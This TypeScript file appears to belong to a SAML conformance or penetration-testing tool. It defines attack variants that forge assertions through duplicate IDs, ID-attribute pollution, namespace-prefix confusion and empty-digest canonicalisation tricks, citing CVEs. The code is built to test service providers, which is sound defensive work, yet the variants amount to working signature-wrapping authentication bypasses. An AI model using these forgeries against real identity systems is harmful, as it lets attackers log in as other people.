import { responseXml } from '../../saml/response.ts';
import { signQuery } from '../../saml/sign.ts';
import { namespaces, signatureAlgorithms } from '../../saml/vocabulary.ts';
import type { Attack, Text, Variant } from '../attack.ts';
import { forgedPerson, signedPerson } from '../forge/people.ts';
import { afterIssuer, replaced, takeSignature, withId } from '../forge/pieces.ts';
import { canonical, digestOf, rawSignature, signatureOf, signedInfo } from '../forge/raw-signature.ts';
import type { BegunLogin } from '../login.ts';
import { changed, loose, looseTogether, only, type Part, whole } from './deliver.ts';
import { attackOf, forgedAssertion } from './forged.ts';

const anybody: Text = {
  de: 'Zwei Programmteile lesen dieselbe Nachricht verschieden: geprüft wird die echte Person, angemeldet die gefälschte.',
  en: 'Two parts of the program read the same message differently: the genuine person is verified, the forged one logged in.',
};
const lock = 'Fedotkin: The Fragile Lock (PortSwigger 2025)';

const attack = attackOf({
  group: 'structure',
  severity: 'critical',
  harm: anybody,
  requirements: ['A3.10.02', 'A3.12.01', 'A3.12.06'],
  bad: 'login',
});

const words = (de: string, en: string): Text => ({ de, en });

/** Other spellings of the attribute by which a reference finds its element. */
const idSpellings = [
  (id: string) => ` saml2:ID="${id}"`,
  (id: string) => ` Id="${id}"`,
  (id: string) => ` id="${id}"`,
  (id: string) => ` xml:id="${id}"`,
  (id: string) => ` AssertionID="${id}"`,
];

const doubled: readonly Attack[] = [
  attack({
    id: 'doubled-assertion',
    severity: 'serious',
    title: { de: 'Zwei echte Assertions in einer Antwort', en: 'Two genuine assertions in one response' },
    references: ['BundID-Schnittstellenbeschreibung 10.2, 10.2'],
    variants: (forge) => {
      const both = (login: BegunLogin): readonly Part[] => [
        forge.signedAssertion(login, signedPerson).xml,
        forge.signedAssertion(login, forgedPerson).xml,
      ];
      return [
        ...looseTogether(forge, only, both),
        whole(words('in signierter Antwort', 'in a signed response'), (login) => {
          const description = forge.responseFor(login);
          const assertions = both(login).map((part) => forge.encrypt(String(part)));
          return forge.sign(responseXml({ ...description, assertions }), description.id);
        }),
      ];
    },
  }),
  attack({
    id: 'duplicate-id',
    bad: 'identity',
    title: { de: 'Eine Kennung an zwei Elementen', en: 'One ID at two elements' },
    references: ['SAML Core 2.0, 1.3.4'],
    variants: (forge) => [
      ...loose(
        forge,
        words(
          'gefälschte Assertion mit der Signatur der echten',
          'forged assertion with the signature of the genuine one',
        ),
        (login) => {
          const { id, xml } = forge.signedAssertion(login, signedPerson);
          const { without, signature } = takeSignature(xml);
          return [afterIssuer(withId(forgedAssertion(forge, login), id), signature), without];
        },
      ),
      ...loose(
        forge,
        words('Antwort heißt wie die Assertion', 'response is named like the assertion'),
        (login) => {
          const { xml } = forge.signedAssertion(login, signedPerson);
          return [xml];
        },
      )
        .map(
          (variant): Variant => ({
            ...variant,
            craft: (login) => {
              const posting = variant.craft(login);
              const fields = posting.fields.map(([name, value]): readonly [string, string] => {
                if (name !== 'SAMLResponse') return [name, value];
                const text = Buffer.from(value, 'base64').toString('utf8');
                const id = /<saml2:Assertion [^>]*ID="([^"]*)"/.exec(text)?.[1];
                // Encrypted, the ID is only known inside; the response then has the name of the request.
                return [name, Buffer.from(withId(text, id ?? login.asked.id)).toString('base64')];
              });
              return { ...posting, fields };
            },
          }),
        )
        .slice(0, 1),
    ],
  }),
  attack({
    id: 'id-attribute-pollution',
    bad: 'identity',
    title: { de: 'Kennung in anderer Schreibweise untergeschoben', en: 'ID planted in another spelling' },
    references: [lock, 'CVE-2025-66568'],
    variants: (forge) =>
      idSpellings.flatMap((spelling) =>
        loose(forge, words(`mit${spelling('…')}`, `with${spelling('…')}`), (login) => {
          const { id, xml } = forge.signedAssertion(login, signedPerson);
          const { without, signature } = takeSignature(xml);
          const polluted = replaced(forgedAssertion(forge, login), / ID="/, (found) => spelling(id) + found);
          return [afterIssuer(polluted, signature), without];
        }),
      ),
  }),
];

const confused: readonly Attack[] = [
  attack({
    id: 'foreign-namespace',
    bad: 'identity',
    title: { de: 'Assertion aus fremdem Namensraum', en: 'Assertion of a foreign namespace' },
    references: [lock],
    variants: (forge) =>
      looseTogether(forge, words('vor der echten', 'in front of the genuine one'), (login) => [
        forgedAssertion(forge, login).replaceAll(namespaces.assertion, 'urn:angriff'),
        forge.signedAssertion(login, signedPerson).xml,
      ]),
  }),
  attack({
    id: 'namespace-confusion',
    bad: 'identity',
    title: { de: 'Präfix der Signatur umgedeutet', en: 'Prefix of the signature redefined' },
    references: [lock, 'CVE-2025-25291', 'CVE-2025-25292', 'CVE-2025-66567'],
    variants: (forge) => [
      ...loose(forge, words('„ds“ meint etwas anderes', '"ds" means something else'), (login) => {
        const { xml } = forge.signedAssertion(login, signedPerson);
        const { signature } = takeSignature(xml);
        const fake = signature.replaceAll(namespaces.signature, 'urn:angriff');
        return [afterIssuer(forgedAssertion(forge, login), fake), xml];
      }),
      ...loose(forge, words('falsche und echte Signatur', 'wrong and genuine signature'), (login) => {
        const { id, xml } = forge.signedAssertion(login, signedPerson);
        const { signature } = takeSignature(xml);
        const fake = signature.replaceAll(namespaces.signature, 'urn:angriff');
        return [afterIssuer(withId(forgedAssertion(forge, login), id), fake + signature)];
      }),
      ...loose(
        forge,
        words('Präfix der Assertion umgedeutet', 'prefix of the assertion redefined'),
        (login) => {
          const { xml } = forge.signedAssertion(login, signedPerson);
          const inner = forgedAssertion(forge, login);
          return [`<saml2:Assertion xmlns:saml2="urn:angriff">${xml}${inner}</saml2:Assertion>`];
        },
      ),
    ],
  }),
  attack({
    id: 'void-canonicalisation',
    title: { de: 'Prüfwert über nichts', en: 'Digest of nothing' },
    references: [lock, 'CVE-2025-66568'],
    variants: (forge) => {
      const algorithm = forge.profile.signature;
      const relative = (xml: string) =>
        replaced(xml, /<saml2:Assertion /, (begin) => `${begin}xmlns:leer="1" `);
      const reference = (xml: string) => ({
        uri: `#${/ ID="([^"]*)"/.exec(xml)?.[1]}`,
        digest: digestOf(''),
      });
      return [
        ...loose(forge, words('Inhalt', 'content'), (login) => {
          const xml = relative(forgedAssertion(forge, login));
          return [
            afterIssuer(xml, rawSignature({ references: [reference(xml)] }, { key: forge.key, algorithm })),
          ];
        }),
        ...loose(forge, words('Inhalt und Signatur', 'content and signature'), (login) => {
          const xml = relative(forgedAssertion(forge, login));
          const info = signedInfo({ method: signatureAlgorithms[algorithm], references: [reference(xml)] });
          const empty = replaced(info, '<ds:SignedInfo ', (begin) => `${begin}xmlns:leer="1" `);
          // A signature over nothing, as a stranger can have it of another empty message.
          return [
            afterIssuer(
              xml,
              signatureOf({
                infos: [empty],
                value: signQuery('', forge.key, algorithm),
                certificate: forge.key.certificate,
              }),
            ),
          ];
        }),
      ];
    },
  }),
  attack({
    id: 'canonicalisation-with-comments',
    severity: 'hardening',
    title: { de: 'Umformung mit Kommentaren', en: 'Canonicalisation with comments' },
    harm: {
      de: 'Die Nachricht bestimmt, wie sie geprüft wird; Regeln gegen Kommentare greifen dann nicht.',
      en: 'The message says how it is verified; rules against comments have no effect then.',
    },
    references: ['SAML Core 2.0, 5.4.3'],
    variants: (forge) => {
      const comments = 'http://www.w3.org/2001/10/xml-exc-c14n#WithComments';
      const sign = (xml: string): string => {
        const uri = `#${/ ID="([^"]*)"/.exec(xml)?.[1]}`;
        const references = [{ uri, digest: digestOf(canonical(xml)), transforms: [enveloped, comments] }];
        return afterIssuer(
          xml,
          rawSignature(
            { references, canonicalization: comments },
            { key: forge.key, algorithm: forge.profile.signature },
          ),
        );
      };
      const isSigned = forge.profile.sign === 'both' || forge.profile.sign === 'assertion';
      return [
        changed(forge, only, () => ({
          profile: { sign: 'none' },
          ...(isSigned ? { edit: sign } : { editResponse: sign }),
        })),
      ];
    },
  }),
];

const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';

/** Elements twice, and names with two meanings. */
export const structureAttacks: readonly Attack[] = [...doubled, ...confused];
